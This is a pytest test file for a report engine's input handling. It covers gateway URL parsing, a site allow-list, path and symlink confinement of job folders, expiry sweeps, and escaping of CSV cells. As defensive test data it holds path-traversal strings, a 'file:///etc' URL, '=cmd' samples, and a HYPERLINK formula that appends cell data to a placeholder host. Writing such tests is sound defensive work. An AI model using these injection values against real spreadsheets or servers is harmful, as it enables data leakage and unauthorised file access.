"""How the embedded engine reads what a gateway sends it, quirks included."""

import csv
import json
import os
from pathlib import Path

import httpx
import openpyxl
import pytest

from app.engine.files import (
    UNRECORDED_KEEP,
    FolderRecord,
    claim_folder,
    find_file,
    read_record,
    sweep,
    write_files,
)
from app.engine.gateway import JobGateway, api_base
from app.engine.job import JobRequest
from app.engine.params import read_ids
from app.engine.sites import SitePolicy
from app.engine.writers import ReportTable, csv_value
from app.errors import NetworkError, UsageError
from app.serve import bind_loopback


def body(**configuration: object) -> dict[str, object]:
    base = {
        "site_id": 1,
        "site_url": "https://gateway.invalid",
        "user_id": 86,
        "api_token": "0123456789abcdef0123456789abcdef0123456789abcdef01234567",
        "tz": "UTC",
        "job_id": 22222,
        "job_name": "trips",
        "job_created_at": 1527613165.181,
        "job_expires": 86400,
    }
    return {"configuration": {**base, **configuration}, "parameters": {}}


@pytest.mark.parametrize(
    "site_url",
    [
        "https://gw.invalid",
        "https://gw.invalid/",
        "https://gw.invalid/api",
        "https://gw.invalid/api/",
        " https://gw.invalid// ",
    ],
)
def test_a_site_url_is_used_with_or_without_api_and_slash(site_url: str) -> None:
    assert api_base(site_url) == "https://gw.invalid/api"


@pytest.mark.parametrize(
    ("created_at", "expected"),
    [(1527613165.181, 1527613165.181), ("1527613165.181", 1527613165.181),
     (1527613165, 1527613165.0), ("timestamp", None), (None, None)],
)  # fmt: skip
def test_job_created_at_may_be_a_number_or_text(
    created_at: object, expected: float | None
) -> None:
    job = JobRequest.parse(body(job_created_at=created_at))

    assert job.created_at == expected
    assert (job.site_id, job.job_id, job.script) == ("1", "22222", "trips")


def test_ids_given_as_text_are_read_as_numbers() -> None:
    job = JobRequest.parse(body(site_id="7", job_id=" 15 ", user_id="86"))

    assert job.key == ("7", "15")


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        ({"job_id": "15/../../x"}, "job_id"),
        ({"site_id": -1}, "site_id"),
        ({"job_id": True}, "job_id"),
        ({"site_url": "file:///etc"}, "site_url"),
        ({"api_token": ""}, "api_token"),
        ({"job_name": None}, "job_name"),
    ],
)
def test_a_configuration_that_cannot_be_used_is_refused(
    change: dict[str, object], complaint: str
) -> None:
    with pytest.raises(UsageError, match=complaint):
        JobRequest.parse(body(**change))


def test_the_token_never_shows_in_a_job_s_text() -> None:
    job = JobRequest.parse(body())

    assert "0123456789abcdef" not in repr(job)
    assert "0123456789abcdef" not in str(job)


def test_files_are_found_only_by_digits_and_a_strict_name(tmp_path: Path) -> None:
    table = ReportTable("idling", "Idling Usage", ["vid"], [{"vid": 1}])
    folder = claim_folder(tmp_path, "3", "4", FolderRecord(SITE_A, 0.0, 1.0))
    names = write_files(folder, table, ["csv", "json"])
    (tmp_path / "3" / "4" / "notes.txt").write_text("not a report file")
    (tmp_path / "3" / "4" / "link.csv").symlink_to(tmp_path / "3" / "4" / "idling.csv")
    outside = tmp_path / "elsewhere.csv"
    outside.write_text("secret")
    (tmp_path / "3" / "4" / "escape.csv").symlink_to(outside)

    assert names == ["idling.json", "idling.csv"]
    assert (
        find_file(tmp_path, "3", "4", "idling.csv")
        == (tmp_path / "3" / "4" / "idling.csv").resolve()
    )
    for site, job, name in [
        ("3", "4", "notes.txt"),
        ("3", "4", "escape.csv"),  # a link out of the job's folder
        ("3", "4", "IDLING.csv"),
        ("3", "4", "idling.csv "),
        ("3", "4", "../4/idling.csv"),
        ("3", "4", "..\\idling.csv"),
        ("3", "4", str(tmp_path / "3" / "4" / "idling.csv")),
        ("3", "../3/4", "idling.csv"),
        ("03x", "4", "idling.csv"),
        ("3", "5", "idling.csv"),
    ]:
        assert find_file(tmp_path, site, job, name) is None, (site, job, name)


def test_running_a_job_again_replaces_its_files(tmp_path: Path) -> None:
    folder = claim_folder(tmp_path, "41", "7", FolderRecord(SITE_A, 0.0, 1.0))
    table = ReportTable("trips", "Trips", ["vid"], [{"vid": 1}])
    write_files(folder, table, ["csv", "xlsx"])

    names = write_files(folder, table, ["json"])

    assert names == ["trips.json"]
    assert sorted(p.name for p in folder.iterdir()) == [".job.json", "trips.json"]


@pytest.mark.asyncio
async def test_an_unreachable_gateway_gives_a_plain_message() -> None:
    sock = bind_loopback(0)
    port = sock.getsockname()[1]
    sock.close()  # nothing listens there any more

    async with httpx.AsyncClient(timeout=5) as http:
        gateway = JobGateway(http, f"http://127.0.0.1:{port}", "tok-unused")
        with pytest.raises(NetworkError) as caught:
            await gateway.rawdata({"vehicles": "1"})

    assert str(caught.value) == (
        f"rawdata request failed: could not reach http://127.0.0.1:{port}/api "
        "(ConnectError)"
    )


# ---- ids ------------------------------------------------------------------


def test_ids_may_be_whole_numbers_written_as_floats() -> None:
    assert read_ids("vehicles", [1, 2.0, 30.0]) == (1, 2, 30)
    assert read_ids("groups", None) == ()


@pytest.mark.parametrize("bad", [1.5, "2", True, None, float("nan"), [1], 1e300])
def test_anything_else_as_an_id_is_refused_naming_the_field(bad: object) -> None:
    with pytest.raises(UsageError, match=r"parameter 'groups/1' must be a whole"):
        read_ids("groups", [4, bad])


# ---- which gateways the engine calls ---------------------------------------


@pytest.mark.parametrize(
    "site_url",
    [
        "http://127.0.0.1:8765",
        "http://127.0.0.1:8765/api/",
        "http://127.8.9.1:80",
        "http://localhost:9/api",
        "https://LOCALHOST",
        "http://[::1]:8765",
    ],
)
def test_gateways_on_this_computer_are_always_allowed(site_url: str) -> None:
    assert SitePolicy().allows(site_url)


@pytest.mark.parametrize(
    "site_url",
    [
        "https://gateway.invalid",
        "http://0.0.0.0:8765",
        "http://localhost.gateway.invalid",
        "http://10.0.0.8",
        "ftp://127.0.0.1",
        "http://127.0.0.1:99999",
        "not a url",
    ],
)
def test_other_gateways_are_refused_unless_allowed(site_url: str) -> None:
    assert not SitePolicy().allows(site_url)


def test_an_allowed_site_matches_with_or_without_api_and_slash() -> None:
    policy = SitePolicy(["https://gw.invalid/api/"])

    assert policy.allows("https://gw.invalid")
    assert policy.allows("https://GW.invalid:443/api")
    assert not policy.allows("http://gw.invalid")  # another scheme and port
    assert not policy.allows("https://gw.invalid:8443")
    assert not policy.allows("https://gw.invalid/other")
    with pytest.raises(UsageError, match="--allow-site"):
        SitePolicy(["gw.invalid"])


# ---- job folders: records, links, expiry ------------------------------------

SITE_A = "http://127.0.0.1:8001/api"
SITE_B = "http://127.0.0.1:8002/api"


def record(site: str = SITE_A, created_at: float = 1000.0) -> FolderRecord:
    return FolderRecord(site, created_at=created_at, expires=100.0)


def make_job(root: Path, site_id: str, job_id: str, site: str = SITE_A) -> Path:
    folder = claim_folder(root, site_id, job_id, record(site))
    table = ReportTable("idling", "Idling Usage", ["vid"], [{"vid": 1}])
    write_files(folder, table, ["csv"])
    return folder


def test_a_job_from_another_site_with_the_same_ids_replaces_the_folder(
    tmp_path: Path,
) -> None:
    folder = make_job(tmp_path, "1", "5", SITE_A)
    (folder / "notes.txt").write_text("left by site A")

    again = claim_folder(tmp_path, "1", "5", record(SITE_A))
    assert (again / "idling.csv").exists()  # the same gateway: kept
    claim_folder(tmp_path, "1", "5", record(SITE_B))

    assert sorted(p.name for p in folder.iterdir()) == [".job.json"]
    assert read_record(folder) == record(SITE_B)
    assert find_file(tmp_path, "1", "5", "idling.csv") is None


@pytest.mark.parametrize(
    "spelling",
    [
        "http://localhost:8001/api",
        "http://localhost:8001",
        "http://127.0.0.1:8001/",
        "HTTP://[::1]:8001/api/",
        "http://127.0.0.1:8001/api/",
    ],
)
def test_another_spelling_of_the_same_gateway_keeps_the_folder(
    tmp_path: Path, spelling: str
) -> None:
    folder = make_job(tmp_path, "1", "5", SITE_A)

    claim_folder(tmp_path, "1", "5", record(spelling))

    assert (folder / "idling.csv").exists()
    assert find_file(tmp_path, "1", "5", "idling.csv") is not None


def test_links_to_folders_outside_are_neither_served_nor_written_through(
    tmp_path: Path,
) -> None:
    root, outside = tmp_path / "files", tmp_path / "outside"
    (outside / "5").mkdir(parents=True)
    (outside / "5" / "idling.csv").write_text("secret")
    (outside / "901").mkdir()
    (outside / "901" / "idling.csv").write_text("secret")
    (root / "1").mkdir(parents=True)
    (root / "1" / "901").symlink_to(outside / "901")  # a linked job folder
    (root / "2").symlink_to(outside)  # a linked site folder

    assert find_file(root, "1", "901", "idling.csv") is None
    assert find_file(root, "2", "5", "idling.csv") is None

    for site_id, job_id in (("1", "901"), ("2", "5")):
        make_job(root, site_id, job_id)
        assert not (root / site_id).is_symlink()
        assert not (root / site_id / job_id).is_symlink()
        assert find_file(root, site_id, job_id, "idling.csv") is not None
    assert (outside / "5" / "idling.csv").read_text() == "secret"
    assert (outside / "901" / "idling.csv").read_text() == "secret"


def test_a_files_folder_reached_through_a_link_still_works(tmp_path: Path) -> None:
    real = tmp_path / "real-files"
    real.mkdir()
    (tmp_path / "files").symlink_to(real)

    make_job(tmp_path / "files", "1", "5")

    assert find_file(tmp_path / "files", "1", "5", "idling.csv") == (
        real / "1" / "5" / "idling.csv"
    )


def test_sweep_removes_expired_jobs_only(tmp_path: Path) -> None:
    expired = make_job(tmp_path, "1", "5")  # expires at 1100
    running = make_job(tmp_path, "1", "6")
    fresh = claim_folder(tmp_path, "1", "7", record(created_at=5000.0))
    unrecorded = tmp_path / "2" / "8"
    unrecorded.mkdir(parents=True)
    outside = tmp_path / "outside"
    (outside / "9").mkdir(parents=True)
    (tmp_path / "3").symlink_to(outside)  # a link is never swept through
    os.utime(outside / "9", (0, 0))

    removed = sweep(tmp_path, now=2000.0, running={("1", "6")})

    assert removed == 1
    assert not expired.exists()
    assert [p.exists() for p in (running, fresh, unrecorded)] == [True] * 3
    assert (outside / "9").exists()

    # With no record, a folder is kept a week after its last change.
    os.utime(unrecorded, (1000.0, 1000.0))
    assert sweep(tmp_path, now=1000.0 + UNRECORDED_KEEP + 1) == 3
    assert not (tmp_path / "2").exists()  # its emptied site folder too
    assert (outside / "9").exists()


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://x"&A1,"Van 1")', '\'=HYPERLINK("http://x"&A1,"Van 1")'),
        ("+1", "'+1"),
        ("-Van", "'-Van"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Van = 1", "Van = 1"),
        # Spreadsheets look past blanks and read full-width signs as plain.
        (" =1+1", "' =1+1"),
        ("\u00a0\u3000=cmd", "'\u00a0\u3000=cmd"),
        ("\n-1", "'\n-1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff0b1", "'\uff0b1"),
        ("\uff0dVan", "'\uff0dVan"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\u200b@SUM(A1)", "'\u200b@SUM(A1)"),
        ("\ufeff\u200d=1", "'\ufeff\u200d=1"),
        # What no file can hold is taken out, or replaced.
        ("Van \u0001 =1", "Van  =1"),
        ("Van\x7f\x85", "Van"),
        ("Lost \ud800", "Lost \ufffd"),
        (-70.5, -70.5),
        (0, 0),
        (None, ""),
        (True, "true"),
    ],
)
def test_csv_cells_never_start_a_formula(value: object, cell: object) -> None:
    assert csv_value(value) == cell


def test_text_no_file_can_hold_is_cleaned_in_every_format(tmp_path: Path) -> None:
    names = ["Van \u0001 =1", "Lost \ud800", "\u00a0=cmd", "Plain"]
    table = ReportTable(
        "idling",
        "Idling \u0002Usage",
        ["vid", "name", "ratio"],
        [
            {"vid": n, "name": name, "ratio": float("nan") if n == 2 else 0.5}
            for n, name in enumerate(names, start=1)
        ],
    )
    folder = claim_folder(tmp_path, "1", "5", record())

    files = write_files(folder, table, ["json", "csv", "xlsx"])

    assert files == ["idling.json", "idling.csv", "idling.xlsx"]
    shown = ["Van  =1", "Lost \ufffd", "\u00a0=cmd", "Plain"]
    document = json.loads((folder / "idling.json").read_text("utf-8"))
    assert [row["name"] for row in document["rows"]] == shown
    assert [row["ratio"] for row in document["rows"]] == [0.5, None, 0.5, 0.5]
    assert document["title"] == "Idling Usage"
    with (folder / "idling.csv").open(encoding="utf-8", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert [row["name"] for row in rows] == [
        "Van  =1",
        "Lost \ufffd",
        "'\u00a0=cmd",
        "Plain",
    ]
    sheet = openpyxl.load_workbook(folder / "idling.xlsx").active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    assert [cell.value for cell in cells] == shown
    assert [cell.quotePrefix for cell in cells] == [False, False, True, False]
    assert sheet.title == "Idling Usage"
